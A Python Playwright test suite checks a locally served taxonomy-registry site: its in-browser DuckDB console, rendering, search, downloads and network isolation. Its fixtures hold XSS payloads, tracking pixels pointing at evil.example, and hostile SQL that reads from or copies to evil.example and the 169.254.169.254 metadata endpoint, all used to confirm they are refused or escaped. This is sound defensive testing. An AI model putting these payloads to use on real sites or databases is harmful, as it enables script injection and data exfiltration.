"""The built site in a real browser: Debian's chromium driven by Playwright, the site served over real HTTP on
127.0.0.1. Every page visit records each request and fails on any that leaves 127.0.0.1, and on any dialog.

Needs /usr/bin/chromium, the `playwright` package (never `playwright install`) and npm (the site vendors its SQL
engine and Mermaid with it): without them the tests skip here, and fail where TAXREG_REQUIRE_BROWSER=1 (.ci/run
sets it).
"""

from __future__ import annotations

import functools
import hashlib
import http.server
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import duckdb
import pytest

from builder.datasets import DatasetOptions, build_dataset
from builder.generators.run import GenerateOptions, generate
from builder.release.cut import CutOptions, cut_release
from registry.catalog.indexer import index
from tests.conftest import EXAMPLE_TAXONOMY, REPO

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = REPO / "build" / "test-artifacts" / "site"
XSS_LEAF = "compositional_skills/writing/xss_probe"
# Contributed text full of markup: every piece must show as typed and nothing may run.
XSS_YAML = """version: 3
task_description: 'Probe <script>alert("xss-task")</script> and <img src=x onerror=alert("xss-task-img")>'
created_by: xss-prober
seed_examples:
  - question: 'What does <script>alert("xss-q1")</script> print?'
    answer: 'Nothing <img src=x onerror=alert("xss-a1")> at all.'
  - question: 'Is "><svg onload=alert("xss-q2")> inert?'
    answer: 'Yes, [click](javascript:alert("xss-a2")) is only text.'
  - question: 'Does <iframe src="javascript:alert(`xss-q3`)"></iframe> run?'
    answer: 'No, </textarea><script>alert("xss-a3")</script> stays text.'
  - question: 'What about {{ config }} and {% raw %} in a template?'
    answer: 'They are shown as typed: {{ config }}.'
  - question: 'And <b onmouseover=alert("xss-q5")>bold</b>?'
    answer: 'Shown as <b>text</b>, &lt;escaped&gt; once.'
"""
CONTRIBUTION = "knowledge/history/technology/printing_press"
RELEASE = "0.1.0"
# The taxonomy's README is contributed markdown too: a tracking pixel and outbound links in it.
README_TRACKERS = """
## Pictures and links

![a pixel](http://evil.example/px.png) ![a pixel by reference][px] [a link](https://evil.example/page)
<http://evil.example/autolink>

[px]: https://evil.example/ref.png
"""
XSS_TEXT = 'What does <script>alert("xss-q1")</script> print?'
SETTLED = "#taxreg-console[data-state=done], #taxreg-console[data-state=error], #taxreg-console[data-state=unavailable]"


def _browser_missing() -> str | None:
    if not CHROMIUM.is_file():
        return f"{CHROMIUM} is missing (apt-get install chromium; .ci/run does)"
    if shutil.which("npm") is None:
        return "npm is missing: the site cannot vendor its SQL engine and Mermaid (apt-get install npm; .ci/run does)"
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "the playwright package is missing (pip install -e '.[dev]')"
    return None


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    missing = _browser_missing()
    if missing:
        if os.environ.get("TAXREG_REQUIRE_BROWSER") == "1":
            pytest.fail(f"browser tests are required here but {missing}")
        pytest.skip(missing)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        # Names outside 127.0.0.1 do not even resolve: a leak fails loudly even if a route were missed.
        chromium = p.chromium.launch(executable_path=str(CHROMIUM),
                                     args=["--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def catalog(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The embedded taxonomy plus one leaf of HTML/JS payloads, indexed, generated and built into a dataset."""
    folder = tmp_path_factory.mktemp("browser")
    taxonomy = folder / "taxonomy"
    shutil.copytree(EXAMPLE_TAXONOMY, taxonomy)
    with (taxonomy / "README.md").open("a", encoding="utf-8") as readme:
        readme.write(README_TRACKERS)
    leaf = taxonomy / XSS_LEAF
    leaf.mkdir(parents=True)
    (leaf / "qna.yaml").write_text(XSS_YAML, encoding="utf-8")
    shutil.copyfile(taxonomy / "compositional_skills/linguistics/antonyms/attribution.txt", leaf / "attribution.txt")
    path = folder / "catalog.duckdb"
    index(taxonomy, path)
    generate(taxonomy, path, GenerateOptions())
    build_dataset(path, folder / "datasets", DatasetOptions())
    cut_release(CutOptions(RELEASE, folder, with_model=False))  # a data-only release beside the catalog
    return path


@pytest.fixture(scope="module")
def site(catalog: Path) -> Path:
    """`taxreg site`, run as a user runs it (its own process), from the repository root (build/vendor cache)."""
    out = catalog.parent / "site"
    done = subprocess.run([sys.executable, "-c", "from builder.cli import main; main()", "site", "--catalog",
                           str(catalog), "--out", str(out), "--taxonomy", str(catalog.parent / "taxonomy")],
                          cwd=REPO, capture_output=True, text=True, check=False, timeout=600)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "warning" not in done.stdout + done.stderr  # e.g. an engine or mermaid that could not be vendored
    return out


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:  # the tests print only what they assert
        pass


@pytest.fixture(scope="module")
def server(site: Path) -> Iterator[str]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site)))
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


@dataclass
class Visit:
    page: Any
    base: str
    external: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def assert_clean(self) -> None:
        assert self.external == [], f"requests left 127.0.0.1: {self.external}"
        assert self.dialogs == [], f"a dialog fired: {self.dialogs}"
        assert self.page.evaluate("window.__xss") is None

    def screenshot(self, name: str) -> Path:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        path = ARTIFACTS / f"{name}.png"
        self.page.screenshot(path=str(path), full_page=True)
        return path


@pytest.fixture
def visit(browser: Any, server: str) -> Iterator[Visit]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    # material draws Mermaid diagrams into closed shadow roots: open them so the test can see the SVG.
    context.add_init_script("const attach = Element.prototype.attachShadow; Element.prototype.attachShadow = "
                            "function (init) { return attach.call(this, {...init, mode: 'open'}); };")
    page = context.new_page()
    result = Visit(page, server)
    here = urlsplit(server).netloc

    def route(r: Any) -> None:
        parts = urlsplit(r.request.url)
        if parts.scheme in ("data", "blob") or parts.netloc == here:
            r.continue_()
        else:
            result.external.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    context.on("request", lambda request: None if urlsplit(request.url).netloc == here
               or urlsplit(request.url).scheme in ("data", "blob") else result.external.append(request.url))
    page.on("dialog", lambda dialog: (result.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda exc: result.errors.append(str(exc)))
    yield result
    context.close()


def published(site: Path, sql: str) -> list[tuple[Any, ...]]:
    con = duckdb.connect(str(site / "audit" / "audit.duckdb"), read_only=True)
    try:
        return list(con.execute(sql).fetchall())
    finally:
        con.close()


def console(visit: Visit, sql: str | None = None) -> Any:
    url = f"{visit.base}/audit/console/" + (f"#{urlencode({'sql': sql})}" if sql is not None else "")
    visit.page.goto(url)
    visit.page.wait_for_selector("#taxreg-console[data-ready='1'], #taxreg-console[data-state]", timeout=90_000)
    state = visit.page.get_attribute("#taxreg-console", "data-state")
    assert state != "unavailable", visit.page.inner_text(".taxreg-console__error")
    return visit.page


def run_sql(visit: Visit, sql: str) -> str:
    page = visit.page
    page.fill(".taxreg-console__sql", sql)
    page.evaluate("document.querySelector('#taxreg-console').removeAttribute('data-state')")
    page.click(".taxreg-console__run")
    page.wait_for_selector(SETTLED, timeout=30_000)
    return str(page.get_attribute("#taxreg-console", "data-state"))


def cells(visit: Visit) -> list[list[str]]:
    return [list(row) for row in visit.page.eval_on_selector_all(
        ".taxreg-console__table tbody tr", "rows => rows.map(r => [...r.cells].map(c => c.textContent))")]


def test_console_counts_what_duckdb_counts(visit: Visit, site: Path) -> None:
    console(visit)
    visit.page.wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
    sql = "SELECT count(*) AS n, count(DISTINCT contribution_id) AS leaves FROM v_sample_provenance"
    assert run_sql(visit, sql) == "done"
    [(n, leaves)] = published(site, sql)
    assert cells(visit) == [[str(n), str(leaves)]] and n > 100  # BIGINTs arrive as exact text
    impact = f"SELECT what, count(*) AS n FROM takedown_impact('{CONTRIBUTION}') GROUP BY what ORDER BY what"
    assert run_sql(visit, impact) == "done"  # the table macro works in the browser engine too
    assert cells(visit) == [[w, str(k)] for w, k in published(site, impact)] and len(cells(visit)) >= 3
    visit.page.select_option(".taxreg-console__canned", label="Orphan samples (must be 0)")
    visit.page.wait_for_function("document.querySelector('.taxreg-console__sql').value.includes('v_orphan')")
    visit.page.wait_for_selector(SETTLED)
    assert cells(visit) == [["0"]]
    visit.screenshot("console")
    assert visit.errors == []
    visit.assert_clean()


def test_the_console_examples_of_column_comments_answer_with_them(visit: Visit, site: Path) -> None:
    """The browser engine reads the comments of table and view columns from the public database."""
    page = console(visit)
    page.wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
    example = next(c for c in page.locator("code").all_inner_texts() if "duckdb_columns()" in c)
    assert run_sql(visit, example) == "done"
    expected = published(site, example)
    assert cells(visit) == [[column, comment] for column, comment in expected] and len(expected) >= 9
    assert all(comment for _, comment in expected)
    page.select_option(".taxreg-console__canned", label="Columns: what each holds and how it joins")
    page.wait_for_function("document.querySelector('.taxreg-console__sql').value.includes('duckdb_columns')")
    page.wait_for_selector(SETTLED)
    shown = cells(visit)
    assert len(shown) == len(published(site, "SELECT * FROM duckdb_columns() WHERE NOT internal"))
    assert all(row[-1].strip() for row in shown)  # every column of every table and view says what it holds
    assert ["v_sample_provenance", "doc_sha256"] in [row[:2] for row in shown]
    visit.assert_clean()


def test_a_shared_query_runs_on_open(visit: Visit, site: Path) -> None:
    sql = "SELECT contributor, count(*)::INTEGER AS samples FROM v_sample_provenance GROUP BY ALL ORDER BY ALL"
    page = console(visit, sql)
    page.wait_for_selector(SETTLED, timeout=90_000)
    assert page.input_value(".taxreg-console__sql") == sql
    assert cells(visit) == [[str(c), str(n)] for c, n in published(site, sql)]
    # Copy link writes the address of the current query; opening it elsewhere runs it again.
    run_sql(visit, "SELECT 41 + 1 AS answer")
    page.click(".taxreg-console__share")
    shared = page.evaluate("location.href")
    assert "#sql=" in shared
    other = page.context.new_page()
    other.goto(shared)
    other.wait_for_selector(SETTLED, timeout=90_000)
    assert other.inner_text(".taxreg-console__table tbody") == "42"
    visit.assert_clean()


def test_bad_sql_and_writes_get_a_clear_error(visit: Visit) -> None:
    console(visit).wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
    assert run_sql(visit, "SELEC 1") == "error"
    assert "syntax error" in visit.page.inner_text(".taxreg-console__error").lower()
    assert run_sql(visit, "DELETE FROM sample") == "error"
    assert "read-only" in visit.page.inner_text(".taxreg-console__error")
    assert run_sql(visit, "SELECT 1 AS ok") == "done" and not visit.page.is_visible(".taxreg-console__error")
    visit.assert_clean()


# Shared links that would make a visitor's browser contact other hosts, fetch extensions or reopen the
# database writable: each must be refused on the page, and nothing may leave 127.0.0.1.
HOSTILE_QUERIES = {
    "SELECT * FROM read_csv('http://evil.example/pixel.csv')": "Permission Error",
    "SELECT * FROM 'https://evil.example/data.csv'": "Permission Error",
    "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')": "Permission Error",
    "SELECT * FROM query('SELECT * FROM read_text(''http://evil.example/q'')')": "Permission Error",
    "SET autoinstall_known_extensions = true; SET autoload_known_extensions = true;\n"
    "SELECT * FROM read_parquet('https://evil.example/x.parquet')": "Refused: SET statements",
    "USE memory; DETACH audit; ATTACH 'audit.duckdb' AS audit;\n"
    "CREATE TABLE audit.pwned AS SELECT 1": "Refused: USE statements",
    "DETACH audit": "Refused: DETACH statements",
    "SELECT 1; ATTACH 'https://evil.example/x.duckdb' AS x": "Refused: ATTACH statements",
    "INSTALL httpfs": "Refused: INSTALL statements",
    "SELECT 'Gutenberg’s “press” 😀'; INSTALL httpfs": "Refused: INSTALL statements",  # offsets are in bytes
    "LOAD httpfs": "Refused: LOAD statements",
    "RESET lock_configuration": "Refused: RESET statements",
    "SELECT 1; /* ; */ COPY (SELECT 1) TO 'http://evil.example/out.csv'": "Refused: COPY statements",
}


def test_hostile_shared_links_are_refused_and_fetch_nothing(visit: Visit) -> None:
    page = visit.page
    for sql, refusal in HOSTILE_QUERIES.items():
        page.goto("about:blank")
        console(visit, sql).wait_for_selector(SETTLED, timeout=90_000)
        assert page.get_attribute("#taxreg-console", "data-state") == "error", sql
        message = page.inner_text(".taxreg-console__error")
        assert refusal in message and "read-only" in message, (sql, message)
        assert visit.external == [], (sql, visit.external)
    # The engine's own guards hold after all of them: the database is still the read-only audit copy.
    guards = ("SELECT readonly::VARCHAR AS ro, current_setting('enable_external_access')::VARCHAR AS ext, "
              "current_setting('lock_configuration')::VARCHAR AS locked, "
              "current_setting('autoinstall_known_extensions')::VARCHAR AS install "
              "FROM duckdb_databases() WHERE database_name = 'audit'")
    assert run_sql(visit, guards) == "done"
    assert cells(visit) == [["true", "false", "true", "false"]]
    assert "attached read-only" in page.inner_text(".taxreg-console__status")
    visit.assert_clean()


def test_every_canned_query_runs(visit: Visit, site: Path) -> None:
    page = console(visit)
    page.wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
    titles = [q["title"] for q in json.loads((site / "audit/engine/queries.json").read_text(encoding="utf-8"))]
    assert len(titles) >= 6
    for title in titles:
        page.evaluate("document.querySelector('#taxreg-console').removeAttribute('data-state')")
        page.select_option(".taxreg-console__canned", label=title)
        page.wait_for_selector(SETTLED, timeout=30_000)
        assert page.get_attribute("#taxreg-console", "data-state") == "done", (title, page.inner_text(
            ".taxreg-console__error"))
    visit.assert_clean()


def test_contributed_markup_stays_text_in_the_console(visit: Visit, site: Path) -> None:
    console(visit).wait_for_selector("#taxreg-console[data-ready='1']", timeout=90_000)
    sql = f"SELECT question, answer FROM seed_example WHERE contribution_id = '{XSS_LEAF}' ORDER BY ordinal"
    assert run_sql(visit, sql) == "done"
    assert cells(visit) == [[q, a] for q, a in published(site, sql)]
    assert cells(visit)[0][0] == XSS_TEXT
    results = ".taxreg-console__results"
    assert visit.page.eval_on_selector(results, "r => r.querySelectorAll('script, img, svg, iframe, b').length") == 0
    visit.page.hover(".taxreg-console__table tbody tr:last-child td")
    visit.screenshot("console-xss")
    visit.assert_clean()



def catalog_value(catalog: Path, sql: str, contribution_id: str) -> str:
    con = duckdb.connect(str(catalog), read_only=True)
    try:
        return str(con.execute(sql, [contribution_id]).fetchall()[0][0])
    finally:
        con.close()


def contributor_of(catalog: Path, contribution_id: str) -> str:
    return catalog_value(catalog, "SELECT created_by FROM contribution WHERE contribution_id = ?", contribution_id)


def document_of(catalog: Path, contribution_id: str) -> str:
    return catalog_value(catalog, "SELECT min(doc_sha256) FROM contribution_source WHERE contribution_id = ?",
                         contribution_id)


# Every table's last column must end inside the page and nothing may be scrolled out of view (the right edge
# of its last column, against the viewport and the table's scroll box).
CLIPPED_TABLES = """() => [...document.querySelectorAll('.md-content table')].flatMap((table, i) => {
    const box = table.closest('.md-typeset__scrollwrap') || table.parentElement;
    const limit = Math.min(window.innerWidth, box.getBoundingClientRect().right) + 1;
    const right = Math.max(...[...table.rows].map(r => r.cells[r.cells.length - 1].getBoundingClientRect().right));
    return right > limit || box.scrollWidth > box.clientWidth + 1
        ? [[i, table.rows[0].cells[table.rows[0].cells.length - 1].textContent, Math.round(right), limit,
            box.scrollWidth, box.clientWidth]] : [];
})"""


def test_tables_are_not_clipped_at_1280_px(visit: Visit, catalog: Path) -> None:
    page = visit.page
    page.set_viewport_size({"width": 1280, "height": 800})
    for path in (f"contributions/{CONTRIBUTION}/", f"contributors/{contributor_of(catalog, CONTRIBUTION).lower()}/",
                 f"documents/{document_of(catalog, CONTRIBUTION)}/"):
        page.goto(f"{visit.base}/{path}")
        page.wait_for_selector(".md-typeset__scrollwrap")  # material has wrapped the tables
        assert page.locator(".md-content table").count() >= 2, path
        assert page.evaluate(CLIPPED_TABLES) == [], path
        visit.screenshot("tables-" + path.split("/")[0])
    visit.assert_clean()


def test_home_and_a_contribution_page_render(visit: Visit, catalog: Path) -> None:
    page = visit.page
    page.goto(f"{visit.base}/")
    assert page.title().startswith("Taxonomy Registry")
    assert page.locator(".md-content h1").count() >= 1 and "contribution" in page.inner_text(".md-content").lower()
    assert visit.screenshot("home").stat().st_size > 10_000
    page.goto(f"{visit.base}/contributions/{CONTRIBUTION}/")
    content = page.inner_text(".md-content")
    assert "printing_press" in content and contributor_of(catalog, CONTRIBUTION) in content
    assert "CC-BY-4.0" in content and "history/printing_press.md" in content
    assert page.locator('script[type="application/ld+json"]').count() == 1
    page.wait_for_selector(".mermaid svg", timeout=30_000)
    assert visit.screenshot("contribution").stat().st_size > 10_000
    assert visit.errors == []
    visit.assert_clean()


def test_a_release_page_shows_its_disclosures_and_the_attribution_page(visit: Visit, catalog: Path) -> None:
    page = visit.page
    page.goto(f"{visit.base}/releases/{RELEASE}/")
    assert page.locator("h2#disclosures").inner_text() == "Disclosures"
    content = page.inner_text(".md-content")
    assert "disclosures/eu-training-content-summary.md" in content and "provenance.intoto.jsonl" in content
    assert page.locator("a[href='files/disclosures/ab2013.md']").count() == 2  # Files and Disclosures download it
    assert "asks the provider for: 1.1 provider, 1.1 representative" in content  # what it must add
    summary = page.locator("details#eu-summary")
    summary.locator("summary").click()
    headings = summary.locator("h3").all_inner_texts()
    assert headings[:2] == ["1.1. Provider identification", "1.2. Model identification"]
    assert "3.2. Removal of illegal content" in headings and summary.locator("h2").count() == 3
    assert "[to be completed by the provider]" in summary.inner_text()
    page.locator("details#ab2013 summary").click()
    assert page.locator("details#ab2013 h2").count() == 12
    assert visit.screenshot("release-disclosures").stat().st_size > 10_000
    page.locator(".md-content a", has_text="attribution of every source").click()
    page.wait_for_url(f"**/releases/{RELEASE}/attribution/")
    credits = page.inner_text(".md-content")
    titles = [r[0] for r in duckdb.connect(str(catalog), read_only=True).execute(
        "SELECT DISTINCT title FROM attribution WHERE license_spdx = 'CC-BY-4.0'").fetchall()]
    assert titles and all(title in credits for title in titles)
    assert page.locator(".md-content a[href='https://creativecommons.org/licenses/by/4.0/legalcode']").count() == 1
    assert visit.screenshot("release-attribution").stat().st_size > 10_000
    assert visit.errors == []
    visit.assert_clean()


def test_the_lineage_diagram_renders_as_svg(visit: Visit) -> None:
    visit.page.goto(f"{visit.base}/contributions/{CONTRIBUTION}/")
    diagram = visit.page.locator(".mermaid svg").first  # Playwright's CSS pierces (opened) shadow roots
    diagram.wait_for(timeout=30_000)
    labels = diagram.text_content() or ""
    assert "chunks" in labels and "samples" in labels and "seed examples" in labels
    assert diagram.bounding_box()["width"] > 200  # type: ignore[index]
    visit.assert_clean()


def search(visit: Visit, text: str) -> list[str]:
    """The addresses material's search lists for `text`, typed into the search box of the home page."""
    page = visit.page
    page.goto(f"{visit.base}/")
    page.click("input.md-search__input")
    page.keyboard.type(text, delay=20)  # as a person types: material listens to keys
    page.wait_for_function("() => /matching/i.test(document.querySelector('.md-search-result__meta')?.textContent)",
                           timeout=30_000)  # "No matching documents", "3 matching documents"
    return list(page.eval_on_selector_all(".md-search-result__item a", "links => links.map(a => a.href)"))


# The diagram as drawn: the text size on screen, each edge as a polyline (edge ids are L_<from>_<to>_<n>), and
# every link of a node.
DIAGRAM = """svg => {
    const box = svg.viewBox.baseVal, scale = svg.getBoundingClientRect().width / box.width;
    const label = svg.querySelector('.nodeLabel');
    const edges = [...svg.querySelectorAll('path.flowchart-link')].map(p => {
        const n = 40, length = p.getTotalLength();
        const at = i => { const q = p.getPointAtLength(length * i / n); return [q.x, q.y]; };
        return [p.id, [...Array(n + 1).keys()].map(at)];
    });
    const href = a => a.getAttribute('xlink:href') || a.getAttribute('href');
    const links = [...svg.querySelectorAll('a')].map(a => new URL(href(a), location.href).href);
    return {font: parseFloat(getComputedStyle(label).fontSize) * scale, edges, links};
}"""


def _crossing(a: list[list[float]], b: list[list[float]]) -> bool:
    """Whether two polylines cross (segments properly intersect)."""
    def side(p: list[float], q: list[float], r: list[float]) -> float:
        return (q[0] - p[0]) * (r[1] - p[1]) - (q[1] - p[1]) * (r[0] - p[0])

    for p1, p2 in itertools.pairwise(a):
        for q1, q2 in itertools.pairwise(b):
            if side(p1, p2, q1) * side(p1, p2, q2) < 0 and side(q1, q2, p1) * side(q1, q2, p2) < 0:
                return True
    return False


def test_the_lineage_diagram_is_readable_and_linked(visit: Visit, catalog: Path) -> None:
    page = visit.page
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"{visit.base}/contributions/{CONTRIBUTION}/")
    svg = page.locator(".mermaid svg").first
    svg.wait_for(timeout=30_000)
    drawn = svg.evaluate(DIAGRAM)
    assert drawn["font"] >= 13, drawn["font"]  # legible at the page's size, not shrunk to fit
    ends = {edge: set(edge.split("_")[1:3]) for edge, _ in drawn["edges"]}
    crossing = [(a, b) for i, (a, pa) in enumerate(drawn["edges"]) for b, pb in drawn["edges"][i + 1:]
                if not ends[a] & ends[b] and _crossing(pa, pb)]
    assert crossing == []
    labels = svg.text_content() or ""
    for text in ("contributor", contributor_of(catalog, CONTRIBUTION), "license", "CC-BY-4.0", "document",
                 "chunks used", "seed examples", "dataset default"):
        assert text in labels, text
    links = drawn["links"]
    for page_of in (f"/contributors/{contributor_of(catalog, CONTRIBUTION).lower()}/",
                    f"/documents/{document_of(catalog, CONTRIBUTION)}/", "/licenses/"):
        assert any(page_of in link for link in links), (page_of, links)
    for link in {link.split("#")[0] for link in links}:  # every node's link lands on a page of the site
        assert page.request.get(link).ok, link
    shown = page.locator("#samples ~ p").first.inner_text()
    assert re.fullmatch(r"3 of \d+ samples shown \(the first by id\); all of them in the SQL console\.", shown), shown
    visit.screenshot("lineage")
    visit.assert_clean()


def test_search_finds_a_contribution_by_contributor_name(visit: Visit, catalog: Path) -> None:
    hrefs = search(visit, contributor_of(catalog, CONTRIBUTION))
    assert any(f"contributions/{CONTRIBUTION}/" in h for h in hrefs), hrefs
    visit.screenshot("search")
    visit.assert_clean()


@pytest.mark.parametrize("topic", ["gutenberg", "diamond sutra", "Bi Sheng"])
def test_search_finds_a_contribution_by_what_it_is_about(visit: Visit, topic: str) -> None:
    hrefs = search(visit, topic)  # words of its outline, questions and answers, not of its path or metadata
    assert any(f"contributions/{CONTRIBUTION}/" in h for h in hrefs), hrefs
    visit.assert_clean()


def test_a_markup_payload_leaf_renders_as_text(visit: Visit) -> None:
    page = visit.page
    response = page.goto(f"{visit.base}/contributions/{XSS_LEAF}/")
    assert response is not None and response.ok
    raw = response.text()
    for payload in ('<script>alert("xss', "<img src=x onerror", '"><svg onload', "<iframe src=\"javascript",
                    "<b onmouseover"):
        assert payload not in raw, payload  # escaped everywhere, JSON-LD included
    for details in page.locator(".md-content details").all():  # open every seed example
        details.evaluate("d => d.open = true")
    text = page.inner_text(".md-content")
    assert XSS_TEXT in text and "<img src=x onerror=alert(\"xss-a1\")>" in text
    assert "{{ config }}" in text
    assert page.evaluate("[...document.querySelectorAll('.md-content a')].some(a => "
                         "a.href.startsWith('javascript:'))") is False
    assert page.locator(".md-content img[src='x'], .md-content iframe, .md-content svg[onload]").count() == 0
    page.hover(".md-content h1")
    visit.screenshot("contribution-xss")
    visit.assert_clean()


def test_images_and_links_in_contributed_markdown_fetch_nothing(visit: Visit) -> None:
    page = visit.page
    page.goto(f"{visit.base}/")
    page.wait_for_load_state("networkidle")
    about = page.locator(".taxreg-about")
    assert "Pictures and links" in about.inner_text()
    assert about.locator("img").count() == 0
    outbound = about.evaluate("s => [...s.querySelectorAll('a')].filter(a => a.hostname === 'evil.example')"
                              ".map(a => [a.textContent, a.rel])")
    assert sorted(outbound) == sorted([["[image: a pixel]", "nofollow noopener"],
                                       ["[image: a pixel by reference]", "nofollow noopener"],
                                       ["a link", "nofollow noopener"],
                                       ["http://evil.example/autolink", "nofollow noopener"]])
    visit.assert_clean()  # no request to evil.example: a tracking pixel is a link, never fetched


def test_a_release_file_downloads_with_the_sha256_its_page_shows(visit: Visit, catalog: Path) -> None:
    page = visit.page
    page.goto(f"{visit.base}/releases/{RELEASE}/")
    row = page.locator(".md-content tr").filter(has=page.locator("a[download]", has_text="data/train.jsonl"))
    shown = row.locator("code[title]").get_attribute("title")
    with page.expect_download() as download:
        row.locator("a[download]").click()
    assert hashlib.sha256(Path(download.value.path()).read_bytes()).hexdigest() == shown
    with page.expect_download() as download:  # the manifest, as the catalog recorded it
        page.locator(".md-content a[download]", has_text="manifest.json").click()
    manifest = hashlib.sha256(Path(download.value.path()).read_bytes()).hexdigest()
    assert manifest == published(catalog.parent / "site", f"SELECT manifest_sha256 FROM release "
                                                          f"WHERE release_id = '{RELEASE}'")[0][0]
    assert manifest in page.inner_text(".md-content")
    visit.assert_clean()


def test_no_page_requests_anything_beyond_127_0_0_1(visit: Visit, site: Path) -> None:
    pages = ["", "taxonomy/", "contributors/", "documents/", "runs/", "licenses/", "releases/", f"releases/{RELEASE}/",
             "audit/",
             "reference/rules/", f"contributions/{CONTRIBUTION}/"]
    pages += [str(p.parent.relative_to(site)) + "/" for section in ("contributors", "documents", "runs")
              for p in sorted((site / section).glob("*/index.html"))[:1]]
    for path in pages:
        response = visit.page.goto(f"{visit.base}/{path}")
        assert response is not None and response.ok, path
        visit.page.wait_for_load_state("networkidle")
    assert visit.errors == []
    visit.assert_clean()


def test_a_site_built_without_npm_says_the_engine_is_missing(browser: Any, site: Path, tmp_path: Path) -> None:
    bare = tmp_path / "site"
    shutil.copytree(site, bare, copy_function=os.link)
    shutil.rmtree(bare / "audit" / "engine" / "duckdb")
    (bare / "audit" / "engine" / "engine.json").unlink()  # a hard link to the real site's file: never write through
    (bare / "audit" / "engine" / "engine.json").write_text(
        '{"vendored": false, "reason": "npm and node were not found on PATH when the site was built"}')
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(bare)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        page = browser.new_page()
        page.goto(f"http://127.0.0.1:{httpd.server_address[1]}/audit/console/")
        page.wait_for_selector("#taxreg-console[data-state=unavailable]", timeout=30_000)
        message = page.inner_text(".taxreg-console__error")
        assert "was not vendored" in message and "npm and node were not found" in message
        assert page.is_disabled(".taxreg-console__run")
        page.close()
    finally:
        httpd.shutdown()
        httpd.server_close()
